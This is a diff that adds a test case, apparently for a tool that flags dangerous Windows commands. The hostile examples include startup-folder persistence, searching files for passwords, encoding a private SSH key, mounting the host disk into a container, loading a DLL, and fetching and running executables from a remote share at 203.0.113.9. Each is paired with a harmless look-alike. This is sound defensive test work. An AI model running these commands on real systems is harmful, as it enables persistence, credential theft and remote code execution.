@@ -226,3 +226,33 @@ test('a database that is emptied, a package that was just fetched, variables one
     ],
   )
 })
+
+test('programs of Windows that were made for something else', () => {
+  twins(
+    [
+      'copy x.exe "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"',
+      'Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList calc',
+      'taskkill /f /fi "USERNAME eq dev"',
+      'findstr /si password C:\\*.txt C:\\*.xml',
+      'certutil -encode C:\\Users\\dev\\.ssh\\id_rsa out.txt',
+      'docker run -v C:\\:/host alpine',
+      'mountvol C: /d',
+      'regsvr32 /s C:\\Temp\\x.dll',
+      'hh.exe http://x.example/a.chm',
+      'esentutl /y \\\\203.0.113.9\\s\\x.exe /d C:\\x.exe /o',
+      'start \\\\203.0.113.9\\s\\a.exe',
+      'net use Z: \\\\203.0.113.9\\s /user:x y',
+    ],
+    [
+      'copy a.txt b.txt',
+      'Start-Process http://localhost:3000',
+      'net start',
+      'taskkill /f /im node.exe',
+      'findstr /s TODO *.cs',
+      'certutil -hashfile a.zip SHA256',
+      'docker run -v C:\\src:/app node:24',
+      'msbuild App.sln /t:Build',
+      'mountvol',
+    ],
+  )
+})
